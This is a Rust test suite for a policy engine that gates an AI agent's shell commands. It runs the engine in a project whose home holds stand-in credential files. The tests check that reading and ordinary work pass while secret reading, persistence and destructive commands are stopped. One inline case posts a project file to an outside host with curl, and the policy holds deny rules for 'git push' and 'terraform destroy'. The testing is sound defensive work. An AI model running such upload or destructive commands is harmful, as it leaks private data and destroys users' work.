//! The built-in policy on the commands of `tests/commands`, in a project on the disk with
//! secrets beside it. What stands there was written from the documentation of the programs
//! before it was tried.
//!
//! A line is a command. `!` in front: it is known to be judged otherwise, for the reason
//! that stands in the comment above it.

#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use bouncer_compiler::{Input, Options, compile, load};
use bouncer_engine::gate::{Attempt, Call, Gate};
use bouncer_hook::disk::Base;
use bouncer_hook::{actions, agents};
use bouncer_plan::{Plan, Verdict};
use serde_json::json;
use std::fs;
use std::path::Path;

fn gate(text: &str) -> Gate {
    let options = Options {
        packs: true,
        heuristics: true,
    };
    let input = Input {
        name: "hook.yaml",
        text,
    };
    let loaded = load(&[input], &options).unwrap();
    Gate::new(Plan::load(compile(&loaded.policy).unwrap()).unwrap())
}

/// A home with secrets, and a project in it.
fn place() -> (tempfile::TempDir, Base) {
    let place = tempfile::tempdir().unwrap();
    let home = place.path().canonicalize().unwrap().join("dev");
    for file in [
        ".ssh/id_rsa",
        ".docker/config.json",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".npmrc",
        ".bashrc",
        "proj/src/main.rs",
        "proj/scripts/build.sh",
        "proj/tests/all.rs",
        "proj/target/debug/app",
        "proj/.git/HEAD",
        "proj/.git/config",
        "proj/.git/hooks/x.sample",
        "proj/docs/index.md",
        "proj/.env",
        "proj/Cargo.toml",
        "proj/package.json",
        "proj/Makefile",
        "proj/notes.txt",
    ] {
        let path = home.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "x\n").unwrap();
    }
    let project = home.join("proj");
    let base = Base {
        home: Some(home),
        project,
    };
    (place, base)
}

fn judge(gate: &Gate, base: &Base, command: &str) -> Verdict {
    let message = json!({"event": "before", "session": "s", "tool": "shell",
        "cwd": base.project, "arguments": {"command": command}});
    let agent = agents::by_name("plain").unwrap();
    let event = agent.read(message.to_string().as_bytes()).unwrap();
    let actions = actions::of(&event, base);
    let mut conversation = gate.conversation();
    let verdicts = actions.calls.iter().map(|action| {
        let call = Call::hypothetical(action.server.as_deref(), &action.tool, Some(&action.args));
        gate.decide(&mut conversation, &call, Attempt::First, 1 << 40)
            .verdict()
    });
    let worst = verdicts.max().unwrap_or(Verdict::Allow);
    worst.max(actions.unread.map_or(Verdict::Allow, |_| Verdict::Ask))
}

/// Judges a file of commands. Whether they are to pass; how many in a hundred have to be
/// judged so.
fn all(name: &str, passes: bool, least: usize) {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/commands");
    let text = fs::read_to_string(folder.join(name)).unwrap();
    let gate = gate(include_str!("../../../examples/hook.yaml"));
    let (_place, base) = place();
    let home = base.home.clone().unwrap();
    let mut wrong = Vec::new();
    let (mut count, mut good) = (0, 0);
    for line in text.lines() {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (known, command) = match line.strip_prefix("! ") {
            Some(command) => (true, command),
            None => (false, line),
        };
        let command = command.replace("/home/dev", &home.to_string_lossy());
        let right = (judge(&gate, &base, &command) == Verdict::Allow) == passes;
        count += 1;
        good += usize::from(right);
        if right == known {
            wrong.push(line);
        }
    }
    println!("{name}: {good} of {count}");
    assert!(wrong.is_empty(), "{name}: {wrong:#?}");
    assert!(
        count >= 40 && good * 100 >= count * least,
        "{good} of {count}"
    );
}

/// A small policy of one's own asks only about what cannot be read.
#[test]
fn packs_do_not_speak_for_the_agents_own_tools() {
    let gate = gate(
        "version: 1
rules:
  - {tool: agent__shell, when: any args.program == git and any args.verb == push, action: deny}
  - {tool: agent__shell, when: any args.program == terraform and any args.verb == destroy, action: deny}
defaults: {onUnknown: allow}
",
    );
    let (_place, base) = place();
    for (command, expected) in [
        ("git status", Verdict::Allow),
        ("curl -d @notes.txt https://x.example", Verdict::Allow),
        ("whatever --with words | sort", Verdict::Allow),
        ("git -C sub push", Verdict::Deny),
        ("git push --unknown-option", Verdict::Deny),
        ("terraform destroy", Verdict::Deny),
        ("terraform -weird x destroy -auto-approve", Verdict::Deny),
        ("terraform plan -destroy", Verdict::Allow),
        ("python3 -c 'x'", Verdict::Ask),
        ("$x", Verdict::Ask),
        ("git push; $x", Verdict::Deny),
    ] {
        assert_eq!(judge(&gate, &base, command), expected, "{command}");
    }
}

#[test]
fn reading_passes() {
    all("reads.txt", true, 98);
}

#[test]
fn more_reading_passes() {
    all("reads-more.txt", true, 98);
}

#[test]
fn work_passes() {
    all("works.txt", true, 88);
}

#[test]
fn more_work_passes() {
    all("works-more.txt", true, 88);
}

#[test]
fn secrets_are_not_read_in_silence() {
    all("secrets.txt", false, 95);
}

#[test]
fn nothing_starts_by_itself_in_silence() {
    all("persist.txt", false, 95);
}

#[test]
fn work_is_not_lost_in_silence() {
    all("destroy.txt", false, 95);
}
